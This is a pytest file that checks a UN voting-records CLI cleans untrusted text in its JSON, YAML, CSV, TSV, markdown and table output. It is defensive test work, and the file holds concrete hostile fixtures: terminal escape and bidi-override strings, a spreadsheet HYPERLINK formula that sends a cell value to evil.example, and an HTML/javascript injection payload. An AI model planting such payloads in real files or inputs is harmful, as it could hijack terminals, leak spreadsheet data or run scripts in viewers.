"""Text from outside passes one gate in every format: a crafted voting file or data file
can neither drive a terminal, nor hide or reorder text, nor run as a spreadsheet formula,
nor put HTML or links into markdown."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
import yaml
from test_history import write

from conftest import rca, replace_in

#: what the gate must keep out, spelled out here rather than taken from rca: C0 but tab
#: and line feed, DEL, C1, the bidirectional and invisible format characters, the line
#: and paragraph separators
FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e"
                       "\u2060-\u2064\u2066-\u2069\ufeff]")
#: a title that tries everything: an OSC 8 link, a title change, a bell, a C1 CSI,
#: right-to-left override, zero-width joiners, a byte-order mark, a line separator
HOSTILE = ("Peace\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\x1b]0;owned\x07\x07"
           "\x9b2J\u202eevil\u200b\u200d\ufeff\u2028second line\u061c end")
FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
HTML = '<img src=x onerror=alert(1)> [click](javascript:alert(1))'


def _roll_call(record: int, symbol: str, date: str, title: str) -> list[str]:
    quoted = '"' + title.replace('"', '""') + '"'
    return [f"{record},{code},{name},{vote},{date},,{symbol},,,,{quoted},,,,1.0,1.0,0.0,0.0,"
            f"2.0,https://digitallibrary.un.org/record/{record}"
            for code, name, vote in (("KAZ", "KAZAKHSTAN", "Y"), ("RUS", "RUSSIA", "N"))]


@pytest.fixture(scope="module")
def crafted_history(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("crafted")
    rows = [*_roll_call(4000001, "A/RES/1/1", "1946-01-01", HOSTILE),
            *_roll_call(4000002, "A/RES/1/2", "1946-01-02", FORMULA),
            *_roll_call(4000003, "A/RES/1/3", "1946-01-03", HTML)]
    db = folder / "h.sqlite3"
    run = rca("history", "import", str(write(folder / "v.csv", rows)), "--db", str(db))
    assert run.exit_code == 0, run.stderr
    return db


def _votes(db: Path, fmt: str) -> str:
    run = rca("history", "votes", "-c", "kaz", "--db", str(db), "--format", fmt)
    assert run.exit_code == 0, run.stderr
    return run.stdout


@pytest.mark.parametrize("fmt", ["json", "yaml", "csv", "tsv", "markdown", "table"])
def test_imported_text_carries_no_control_bidi_or_invisible_character(
        crafted_history: Path, fmt: str) -> None:
    out = _votes(crafted_history, fmt)
    assert "Peace" in out and "evil" in out  # the text is there, cleaned
    assert not FORBIDDEN.search(out), repr(FORBIDDEN.search(out))


def test_json_and_yaml_keep_the_text_and_lose_only_the_unsafe_characters(
        crafted_history: Path) -> None:
    titles = {row["title"] for row in json.loads(_votes(crafted_history, "json"))}
    assert any(t.startswith("Peace]8;;https://evil.example") for t in titles), titles
    from_yaml = {row["title"] for row in yaml.safe_load(_votes(crafted_history, "yaml"))}
    assert from_yaml == titles


@pytest.mark.parametrize("fmt, delimiter", [("csv", ","), ("tsv", "\t")])
def test_a_cell_that_would_start_a_formula_is_defused(crafted_history: Path, fmt: str,
                                                      delimiter: str) -> None:
    text = _votes(crafted_history, fmt)
    lines = [line for line in text.splitlines() if not line.startswith("# ")]
    cells = [c for row in csv.reader(io.StringIO("\n".join(lines)), delimiter=delimiter)
             for c in row]
    assert f"'{FORMULA}" in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


def test_markdown_carries_no_html_and_no_link(crafted_history: Path) -> None:
    text = _votes(crafted_history, "markdown")
    assert "&lt;img src=x onerror=alert(1)&gt;" in text
    assert "<img" not in text
    assert "\\[click\\](javascript:" in text  # brackets escaped: text, not a link
    assert not re.search(r"(?<!\\)\]\(", text)


def test_a_tsv_record_stays_one_line_whatever_separators_it_holds(
        crafted_history: Path) -> None:
    rows = _votes(crafted_history, "tsv").splitlines()
    data = [r for r in rows if r and not r.startswith("#")][1:]
    assert len(data) == 3  # three roll calls, three records, for any splitlines() reader


def test_a_formula_in_the_dataset_is_defused_in_csv_and_tsv(data_copy: Path) -> None:
    replace_in(data_copy / "sources.yaml", "  title: ", f"  title: '{FORMULA}' #")
    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
        run = rca("sources", "--data-dir", str(data_copy), "--format", fmt)
        assert run.exit_code == 0, run.stderr
        lines = [line for line in run.stdout.splitlines() if not line.startswith("# ")]
        cells = [c for row in csv.reader(io.StringIO("\n".join(lines)), delimiter=delimiter)
                 for c in row]
        assert f"'{FORMULA}" in cells and FORMULA not in cells


def test_negative_numbers_are_not_defused() -> None:
    from rca.text import spreadsheet_safe

    assert [spreadsheet_safe(t) for t in ("-0.53", "-12", "+3", "-", "-1,234.5")] == [
        "-0.53", "-12", "+3", "-", "-1,234.5"]
    assert spreadsheet_safe("-2+3") == "'-2+3" and spreadsheet_safe("@SUM(A1)") == "'@SUM(A1)"


@pytest.mark.parametrize("character", ["\u200b", "\ufeff", "\u2028", "\u061c", "\u2063"])
def test_the_validator_refuses_invisible_characters_in_a_text(data_copy: Path,
                                                              character: str) -> None:
    escape = f"\\u{ord(character):04x}"
    line = replace_in(data_copy / "themes.yaml", "name: Security", f'name: "Secu{escape}rity"')
    run = rca("validate", "--data-dir", str(data_copy))
    assert run.exit_code == 1
    assert f"themes.yaml:{line}: a control character ({escape})" in run.stderr
    assert character not in run.stderr


@pytest.mark.parametrize("fmt", ["csv", "markdown", "json", "yaml"])
def test_a_path_with_escape_codes_is_cleaned_in_data_info(tmp_path: Path, fmt: str) -> None:
    folder = tmp_path / "data\x1b]0;owned\x07"
    assert rca("data", "copy", str(folder)).exit_code == 0
    run = rca("data", "info", "--data-dir", str(folder), "--format", fmt)
    assert run.exit_code == 0, run.stderr
    assert "]0;owned" in run.stdout and not FORBIDDEN.search(run.stdout)


def test_a_dataset_with_many_problems_shows_the_first_and_points_to_validate(
        data_copy: Path) -> None:
    records = data_copy / "records.yaml"
    text = records.read_text(encoding="utf-8")
    records.write_text(re.sub(r"^  statement: ", "  statment: ", text, flags=re.M),
                       encoding="utf-8")
    run = rca("countries", "--data-dir", str(data_copy))
    assert run.exit_code == 1
    lines = run.stderr.splitlines()
    assert len(lines) == 21, len(lines)
    assert "(the first 20 above; 'rca validate' lists them all)" in lines[-1]
    every = rca("validate", "--data-dir", str(data_copy))
    assert len(every.stderr.splitlines()) > 100
